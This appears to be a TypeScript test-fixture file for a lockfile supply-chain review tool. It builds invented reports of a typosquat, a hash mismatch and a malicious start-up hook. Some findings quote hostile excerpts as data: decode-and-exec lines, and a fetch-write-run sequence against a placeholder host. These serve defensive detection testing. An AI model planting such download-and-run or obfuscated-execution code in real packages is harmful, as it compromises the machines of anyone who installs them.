import type { ChangeLabel, DependencyChange, LockPair } from '../../src/model/change.js';
import type { Evidence } from '../../src/model/evidence.js';
import { found } from '../../src/model/fetched.js';
import type { Finding, LockfileLocation } from '../../src/model/finding.js';
import type { Gap } from '../../src/model/gap.js';
import { type Hash, parseHash } from '../../src/model/hashes.js';
import { type LockedPackage, NO_OPTIONS } from '../../src/model/lockfile.js';
import { type NormalizedName, normalizeName } from '../../src/model/names.js';
import { DAY, DEFAULT_POLICY, type Policy } from '../../src/model/policy.js';
import { entryProblem, fileProblem, type Problem } from '../../src/model/problem.js';
import type { Behaviour, MemberLocation, ProfileDelta, Surface } from '../../src/model/profile.js';
import { purlOf } from '../../src/model/purl.js';
import type { Project } from '../../src/model/release.js';
import type { Report } from '../../src/model/report.js';
import { parseVersion, type Version } from '../../src/model/versions.js';
import { decide } from '../../src/policy/decide.js';
import { usesOf } from '../../src/policy/uses.js';
import { rules } from '../../src/rules/catalog.js';

/** Reports as a review would make them, built for the outputs' tests and pictures. Every package here is invented. */

/** 2026-11-23T12:00:00Z. */
export const NOW = Date.UTC(2026, 10, 23, 12);

export function version(text: string): Version {
  const parsed = parseVersion(text);
  if (parsed === null) throw new Error(`no version: ${text}`);
  return parsed;
}

export function sha256(digit: string): Hash {
  const hash = parseHash(`sha256:${digit.repeat(64)}`);
  if (hash === null) throw new Error(`no hex digit: ${digit}`);
  return hash;
}

export function locked(name: string, at: string, over: Partial<LockedPackage> = {}): LockedPackage {
  return {
    name: normalizeName(name),
    version: version(at),
    source: { kind: 'index', url: null },
    artifacts: [
      {
        filename: `${name.replaceAll('-', '_')}-${at}-py3-none-any.whl`,
        url: null,
        hashes: [sha256('a')],
        size: 12_345,
        uploadTime: null,
        line: 1,
      },
    ],
    scopes: ['runtime'],
    groups: [],
    extras: [],
    marker: null,
    direct: null,
    requires: [],
    line: 1,
    ...over,
  };
}

export interface ChangeInput {
  readonly from?: string | null;
  readonly to?: string | null;
  readonly line?: number;
  readonly path?: readonly string[];
  readonly labels?: readonly ChangeLabel[];
  readonly entry?: Partial<LockedPackage>;
  readonly lockfile?: string;
}

export function change(name: string, input: ChangeInput): DependencyChange {
  const { line = 1, lockfile = 'uv.lock', entry = {} } = input;
  const from = input.from ? locked(name, input.from, { ...entry, line }) : null;
  const to = input.to ? locked(name, input.to, { ...entry, line }) : null;
  const present = to ?? from;
  if (present === null) throw new Error('a change has a side');
  return {
    kind: from === null ? 'added' : to === null ? 'removed' : 'changed',
    name: normalizeName(name),
    from,
    to,
    labels: input.labels ?? (from !== null && to !== null ? ['upgrade'] : []),
    occurrences: [{ path: lockfile, line, entry: present }],
    path: (input.path ?? []).map((item): NormalizedName => normalizeName(item)),
  };
}

export const member = (
  path: string,
  line: number | null,
  excerpt: string | null,
  artifact: string,
): MemberLocation => ({
  kind: 'member',
  artifact,
  path,
  line,
  column: null,
  excerpt,
});

export const lockLine = (path: string, line: number | null): LockfileLocation => ({ kind: 'lockfile', path, line });

export function finding(ruleId: string, about: DependencyChange | string, over: Partial<Finding> = {}): Finding {
  const subject = typeof about === 'string' ? about : purlOf(about.name, (about.to ?? about.from)?.version ?? null);
  const locations = typeof about === 'string' ? [] : about.occurrences.map(({ path, line }) => lockLine(path, line));
  return {
    ruleId,
    level: 'block',
    confidence: 'high',
    subject,
    headline: rules.find(({ id }) => id === ruleId)?.headline ?? 'is not as it should be',
    message: `${ruleId} was seen.`,
    remedy: 'Do not merge before someone has looked at it.',
    trace: [],
    fingerprint: [ruleId, subject, over.message ?? ''].join('|'),
    allowedBy: null,
    ...over,
    locations: [...locations, ...(over.locations ?? [])],
  };
}

export interface EvidenceInput {
  readonly ageDays?: number;
  readonly delta?: Partial<Pick<ProfileDelta, 'surfaces' | 'behaviours' | 'files' | 'baseline'>>;
}

export function evidenceOf(about: DependencyChange, { ageDays = 40, delta = {} }: EvidenceInput = {}): Evidence {
  const at = about.to?.version ?? null;
  const project: Project = {
    name: about.name,
    indexUrl: 'https://pypi.org/simple',
    status: 'active',
    statusReason: null,
    files: [
      {
        filename: `${about.name}-${at}.tar.gz`,
        url: `https://files.pythonhosted.org/${about.name}.tar.gz`,
        kind: 'sdist',
        version: at,
        hashes: [sha256('a')],
        size: 1000,
        uploadedAt: NOW - ageDays * DAY,
        yanked: null,
        provenance: null,
        requiresPython: null,
      },
    ],
  };
  return {
    change: about,
    project: found(project),
    release: at === null ? null : found({ project, version: at, files: project.files, metadata: null }),
    advisories: null,
    provenance: null,
    domains: null,
    health: null,
    repository: null,
    artifacts: [],
    profiles: [],
    delta: found({ ...emptyDelta(about), ...delta }),
    gaps: [],
  };
}

const nothing = { added: [], changed: [], gone: [] };

export const emptyDelta = (about: DependencyChange): ProfileDelta => ({
  baseline: about.from?.version
    ? { kind: 'locked', version: about.from.version }
    : { kind: 'none', reason: 'It has no earlier release.' },
  surfaces: nothing,
  behaviours: nothing,
  before: [],
  signs: nothing,
  files: nothing,
  topLevelNames: nothing,
  requiresDist: nothing,
  buildRequires: nothing,
  disagreements: [],
  metadata: { from: null, to: null },
});

export const surface = (when: Surface['when'], at: MemberLocation): Surface => ({
  when,
  kind: when === 'startup' ? 'pth' : 'setup-py',
  text: at.excerpt ?? '',
  at,
  fingerprint: `${when} ${at.path}`,
});

export const behaviour = (act: Behaviour['act'], when: Surface['when'], at: MemberLocation): Behaviour => ({
  act,
  inputs: ['network'],
  callee: 'subprocess.Popen',
  target: null,
  when: [when],
  traits: [],
  steps: [],
  at,
  fingerprint: `${act} ${at.path}`,
});

export interface ReportInput {
  readonly changes?: readonly DependencyChange[];
  readonly evidence?: readonly Evidence[];
  readonly findings?: readonly Finding[];
  readonly gaps?: readonly Gap[];
  readonly problems?: readonly Problem[];
  readonly policy?: Partial<Policy>;
}

export function reportOf({
  changes = [],
  evidence = [],
  findings = [],
  gaps = [],
  problems = [],
  policy: over = {},
}: ReportInput): Report {
  const policy: Policy = { ...DEFAULT_POLICY, ...over };
  const paths = [
    ...new Set([
      ...changes.flatMap(({ occurrences }) => occurrences.map(({ path }) => path)),
      ...problems.map(({ path }) => path),
    ]),
  ];
  return {
    tool: { name: 'lockgate', version: '0.1.0' },
    base: '1f0c9a7',
    head: '8be42d1',
    locks: paths.map(pair),
    diff: { changes, options: [], problems: [] },
    evidence,
    findings,
    gaps,
    problems,
    policy,
    contents: { read: true },
    shard: null,
    allowances: usesOf({ findings, evidence, files: [], policy, now: NOW }),
    verdict: decide({ findings, gaps, problems, policy }),
    reviewedAt: NOW,
    timing: { read: 12, gather: 3400, judge: 20 },
  };
}

const pair = (path: string): LockPair => {
  const lockfile = { format: 'uv', path, packages: [], options: NO_OPTIONS, includes: [], problems: [] };
  return { path, base: lockfile, head: lockfile };
};

const ordinary = (): readonly DependencyChange[] => [
  change('certifi', { from: '2026.8.3', to: '2026.10.5', line: 112, path: ['httpx', 'certifi'] }),
  change('charset-normalizer', { from: '3.4.4', to: '3.5.0', line: 140, path: ['requests', 'charset-normalizer'] }),
  change('idna', { from: '3.11', to: '3.13', line: 301, path: ['httpx', 'idna'] }),
  change('ruff', {
    from: '0.14.2',
    to: '0.15.1',
    line: 702,
    path: ['ruff'],
    entry: { scopes: ['development'], direct: true },
  }),
  change('urllib3', { from: '2.6.1', to: '2.7.0', line: 955, path: ['requests', 'urllib3'] }),
  change('colorama', { from: '0.4.6', line: 150, path: ['pytest', 'colorama'], entry: { scopes: ['development'] } }),
];

/** Ordinary updates: nothing to object to. */
export function passReport(): Report {
  const changes = ordinary();
  return reportOf({
    changes,
    evidence: changes.filter(({ to }) => to !== null).map((item, at) => evidenceOf(item, { ageDays: 9 + 45 * at })),
  });
}

/** No lockfile changed. */
export const unchangedReport = (): Report => reportOf({});

/** A typosquat with an install hook, an update that gains a start-up hook, a hash that was altered; ordinary updates around them. */
export function blockReport(policy: Partial<Policy> = {}): Report {
  const squat = change('reqeusts', { to: '2.32.9', line: 611, path: ['reqeusts'], entry: { direct: true } });
  const update = change('telemetry-kit', {
    from: '1.4.1',
    to: '1.4.2',
    line: 820,
    path: ['api-client', 'telemetry-kit'],
  });
  const altered = change('tomlish', {
    from: '0.13.2',
    to: '0.13.3',
    line: 44,
    lockfile: 'requirements.txt',
    path: ['tomlish'],
  });
  const fresh = change('fastqueue', {
    from: '3.1.0',
    to: '3.2.0',
    line: 230,
    path: ['fastqueue'],
    entry: { direct: true },
  });
  const hook = member('telemetry_kit.pth', 1, 'import telemetry_kit._boot', 'telemetry_kit-1.4.2-py3-none-any.whl');
  const boot = (line: number, excerpt: string): MemberLocation =>
    member('telemetry_kit/_boot.py', line, excerpt, 'telemetry_kit-1.4.2-py3-none-any.whl');
  const setup = member('setup.py', 14, 'subprocess.Popen([sys.executable, "-c", code])', 'reqeusts-2.32.9.tar.gz');
  const changes = [squat, update, altered, fresh, ...ordinary()];
  return reportOf({
    policy: { source: '.github/lockgate.toml', ...policy },
    changes,
    evidence: [
      evidenceOf(squat, {
        ageDays: 0.3,
        delta: {
          surfaces: { ...nothing, added: [surface('install', setup)] },
          behaviours: { ...nothing, added: [behaviour('run-process', 'install', setup)] },
        },
      }),
      evidenceOf(update, {
        ageDays: 1.2,
        delta: {
          surfaces: { ...nothing, added: [surface('startup', hook)] },
          behaviours: {
            ...nothing,
            added: [behaviour('fetch', 'startup', boot(7, '')), behaviour('run-process', 'startup', boot(9, ''))],
          },
        },
      }),
      evidenceOf(altered, { ageDays: 210 }),
      evidenceOf(fresh, { ageDays: 1.1 }),
      ...ordinary().map((item) => evidenceOf(item)),
    ],
    findings: [
      finding('typosquat', squat, {
        message:
          'reqeusts differs from requests, rank 4 of the most used projects, by two swapped letters. Its first release is 7 hours old.',
        remedy: 'Check the spelling. If requests was meant, change the requirement and lock again.',
      }),
      finding('install-time-execution', squat, {
        message:
          'setup.py starts a process with text it decoded, while the package is being installed. There is no earlier release to compare with.',
        remedy:
          'Do not install it anywhere. Read the file on the index and report the project to PyPI if you did not expect this.',
        locations: [setup],
        trace: [
          {
            what: 'decodes a literal of 1,204 characters with base64.b64decode',
            at: member('setup.py', 11, 'code = base64.b64decode(BLOB).decode()', 'reqeusts-2.32.9.tar.gz'),
          },
          { what: 'runs it as a program with subprocess.Popen', at: setup },
        ],
      }),
      finding('startup-hook', update, {
        message: 'telemetry_kit.pth runs "import telemetry_kit._boot" at every Python start; 1.4.1 had no such hook.',
        remedy: 'Do not merge. Compare the hook with the repository of the project and ask its maintainers.',
        locations: [hook],
      }),
      finding('download-and-run', update, {
        message:
          'telemetry_kit/_boot.py downloads a file from updates.telemetry-kit.invalid and runs it in a detached process.',
        remedy: 'Treat machines that installed 1.4.2 as compromised and stay on 1.4.1.',
        trace: [
          {
            what: 'reads https://updates.telemetry-kit.invalid/agent with urllib.request.urlopen',
            at: boot(7, 'body = urllib.request.urlopen(URL).read()'),
          },
          { what: 'writes it to /tmp/.tk', at: boot(8, 'Path("/tmp/.tk").write_bytes(body)') },
          {
            what: 'runs it with subprocess.Popen, detached, output silenced',
            at: boot(9, 'subprocess.Popen(["/tmp/.tk"], start_new_session=True)'),
          },
        ],
      }),
      finding('hash-mismatch', altered, {
        message:
          'requirements.txt records sha256 3c1d…77aa for tomlish-0.13.3-py3-none-any.whl; the index says 9f2c…01be.',
        remedy:
          'Do not merge before finding out which of the two was altered. Lock again from a clean machine and compare.',
      }),
      finding('fresh-release', fresh, {
        level: 'warn',
        confidence: 'high',
        message: 'fastqueue 3.2.0 was uploaded 26 hours ago; the policy asks for 3 days.',
        remedy: 'Wait until 2026-11-25, or merge if the update is urgent.',
      }),
      finding('provenance-lost', update, {
        level: 'note',
        message: 'Earlier releases carried an attestation; this one carries none.',
      }),
    ],
    gaps: [
      {
        stage: 'advisories',
        subject: purlOf(fresh.name, fresh.to?.version ?? null),
        message: 'api.osv.dev did not answer within 15 s, so known vulnerabilities of this release were not looked up.',
      },
    ],
  });
}

/** Warnings only, one accepted finding and one entry that has expired. */
export function warnReport(): Report {
  const fresh = change('fastqueue', {
    from: '3.1.0',
    to: '3.2.0',
    line: 230,
    path: ['fastqueue'],
    entry: { direct: true },
  });
  const vulnerable = change('imagelib', { from: '10.1.0', to: '10.2.0', line: 380, path: ['reportgen', 'imagelib'] });
  const native = change('cbuild', { from: '1.4.1', to: '1.4.2', line: 90, path: ['cbuild'] });
  const allowed = {
    name: native.name,
    version: version('1.4.2'),
    file: null,
    rules: ['install-time-execution'],
    sha256: [],
    reason: 'builds its bundled C library',
    owner: '@platform',
    expires: '2027-01-31',
    line: 9,
  };
  return reportOf({
    policy: {
      source: '.github/lockgate.toml',
      allow: [
        allowed,
        { ...allowed, name: normalizeName('old-thing'), version: null, expires: '2026-10-01', line: 17 },
      ],
    },
    changes: [fresh, vulnerable, native, ...ordinary()],
    evidence: [
      evidenceOf(fresh, { ageDays: 1.1 }),
      evidenceOf(vulnerable, { ageDays: 300 }),
      evidenceOf(native, { ageDays: 30 }),
      ...ordinary().map((item) => evidenceOf(item)),
    ],
    findings: [
      finding('known-vulnerability', vulnerable, {
        level: 'warn',
        message:
          'GHSA-xxxx-invalid (high): a crafted image overflows a buffer. It came with 10.2.0 and is fixed in 10.2.1.',
        remedy: 'Lock 10.2.1 or later.',
      }),
      finding('fresh-release', fresh, {
        level: 'warn',
        message: 'fastqueue 3.2.0 was uploaded 26 hours ago; the policy asks for 3 days.',
        remedy: 'Wait until 2026-11-25, or merge if the update is urgent.',
      }),
      finding('install-time-execution', native, {
        message: 'setup.py starts make while the package is being installed; 1.4.1 did not.',
        allowedBy: allowed,
      }),
    ],
  });
}

/** Nothing found, but the index was down and one lockfile is broken in part. */
export function gapsReport(policy: Partial<Policy> = {}): Report {
  const changes = ordinary();
  const message =
    'pypi.org did not answer within 15 s. Not checked: fresh-release, hash-mismatch, startup-hook, typosquat and 9 more.';
  return reportOf({
    policy,
    changes,
    evidence: changes.map((item) => ({ ...evidenceOf(item), release: null, delta: null })),
    gaps: changes
      .filter(({ to }) => to !== null)
      .map(({ name, to }) => ({ stage: 'index', subject: purlOf(name, to?.version ?? null), message })),
    problems: [
      entryProblem(
        'requirements-dev.txt',
        12,
        '"requests>=2" is not pinned with ==, so what would be installed cannot be reviewed. Pin it with `uv pip compile`.',
      ),
    ],
  });
}

/** A block beside a policy that the pull request loosens for itself. */
export function weakenedReport(): Report {
  const altered = change('tomlish', {
    from: '0.13.2',
    to: '0.13.3',
    line: 44,
    path: ['tomlish'],
    entry: { direct: true },
  });
  const path = '.github/lockgate.toml';
  return reportOf({
    policy: { source: path },
    changes: [altered, ...ordinary()],
    evidence: [altered, ...ordinary()].map((item) => evidenceOf(item)),
    findings: [
      finding('hash-mismatch', altered, {
        message: 'uv.lock records sha256 3c1d…77aa for tomlish-0.13.3-py3-none-any.whl; the index says 9f2c…01be.',
        remedy:
          'Do not merge before finding out which of the two was altered. Lock again from a clean machine and compare.',
      }),
      finding('lock-options-weakened', path, {
        level: 'warn',
        message:
          'The policy accepts `hash-mismatch` of pkg:pypi/tomlish@0.13.3. This review still goes by the policy of the base branch.',
        remedy: 'Propose policy changes in a pull request of their own, reviewed by the owners of the policy.',
        locations: [lockLine(path, 12)],
      }),
    ],
  });
}

/** What a schedule finds in a whole lock: nothing changed, and one release is known to be bad by now. */
export function monitoringReport(): Report {
  const bad = change('telemetry-kit', { to: '1.4.2', line: 820, path: ['api-client', 'telemetry-kit'] });
  const old = change('imagelib', { to: '10.2.0', line: 380, path: ['reportgen', 'imagelib'] });
  const others = ordinary().flatMap(({ name, to }) => (to?.version == null ? [] : [change(name, { to: to.version })]));
  const changes = [bad, old, ...others];
  const report = reportOf({
    changes,
    evidence: changes.map((item) => evidenceOf(item, { ageDays: 90 })),
    findings: [
      finding('known-malware', bad, {
        message: 'MAL-2026-4711: telemetry-kit 1.4.2 downloads and runs a program at every Python start.',
        remedy: 'Remove it now. Treat every machine that installed it as compromised and rotate what it could read.',
      }),
      finding('known-vulnerability', old, {
        level: 'warn',
        message: 'GHSA-xxxx-invalid (high): a crafted image overflows a buffer. Fixed in 10.2.1.',
        remedy: 'Lock 10.2.1 or later.',
      }),
    ],
  });
  return {
    ...report,
    locks: report.locks.map((pair) => ({ ...pair, base: null })),
    contents: {
      read: false,
      reason:
        'a scheduled run holds each locked release against what its index and the advisories say today. Start the workflow by hand to have the code read.',
    },
  };
}

/** A lockfile that nobody could read. */
export const unreadableReport = (): Report =>
  reportOf({
    problems: [
      fileProblem(
        'services/api/uv.lock',
        'Not valid TOML, unclosed string. Nothing in this file was reviewed, so the check blocks. Run `uv lock` and commit.',
        7,
      ),
    ],
  });

/** `size` changed packages, each with a block, a warning, or nothing, in turn. */
export function hugeReport(size: number, blockEvery: number, warnEvery: number): Report {
  const changes = Array.from({ length: size }, (_, at) =>
    change(`package-number-${at}`, { from: '1.0', to: '1.1', line: at + 1, path: ['root', `package-number-${at}`] }),
  );
  return reportOf({
    changes,
    evidence: changes.map((item) => evidenceOf(item)),
    findings: changes.flatMap((item, at) => {
      const excerpt = member(
        'a/_boot.py',
        3,
        'exec(zlib.decompress(base64.b64decode(BLOB)))',
        `${item.name}-1.1.tar.gz`,
      );
      if (at % blockEvery === 0)
        return [
          finding('decoded-execution', item, {
            message: `${item.name} runs text that it decodes first.`,
            locations: [excerpt],
          }),
        ];
      return at % warnEvery === 0 ? [finding('fresh-release', item, { level: 'warn' })] : [];
    }),
  });
}

/** A report that carries `text` wherever a package, a lockfile or a file name of the pull request can put text. */
export function textReport(text: string): Report {
  const name = normalizeName(`${text} x`);
  const source = { kind: 'archive-url', url: text } as const;
  const artifacts = [{ filename: text, url: text, hashes: [sha256('a')], size: 1, uploadTime: text, line: 1 }];
  const plain = change('demo', {
    from: '1.0',
    to: '1.1',
    line: 3,
    path: [text, 'demo'],
    lockfile: `${text}/uv.lock`,
    entry: { source, artifacts, marker: text },
  });
  const rename = (entry: LockedPackage | null) => entry && { ...entry, name };
  const about: DependencyChange = { ...plain, name, from: rename(plain.from), to: rename(plain.to) };
  const quiet = change('quiet', { from: '1.0', to: '1.1', path: [text, text, 'quiet'], entry: { source } });
  const place = member(text, 4, text, text);
  const told = { message: text, remedy: text, locations: [place], trace: [{ what: text, at: place }] };
  const report = reportOf({
    changes: [about, quiet],
    evidence: [evidenceOf(about)],
    findings: [
      finding('startup-hook', about, told),
      finding('typosquat', about, { ...told, level: 'warn', trace: [] }),
      finding('fresh-release', quiet, { ...told, level: 'warn', trace: [] }),
      finding('provenance-lost', about, { ...told, level: 'note' }),
      finding('lock-options-weakened', `${text}/uv.lock`, { ...told, level: 'warn' }),
      finding('late-file', quiet, {
        ...told,
        allowedBy: {
          name,
          version: null,
          file: null,
          rules: ['late-file'],
          sha256: [],
          reason: text,
          owner: text,
          expires: null,
          line: 1,
        },
      }),
    ],
    gaps: [{ stage: 'index', subject: purlOf(name, null), message: text }],
    problems: [entryProblem(`${text}/uv.lock`, 2, text)],
  });
  const options = [{ path: text, option: 'indexUrl', from: text, to: text, line: 2 } as const];
  return { ...report, base: text, head: text, diff: { ...report.diff, options } };
}
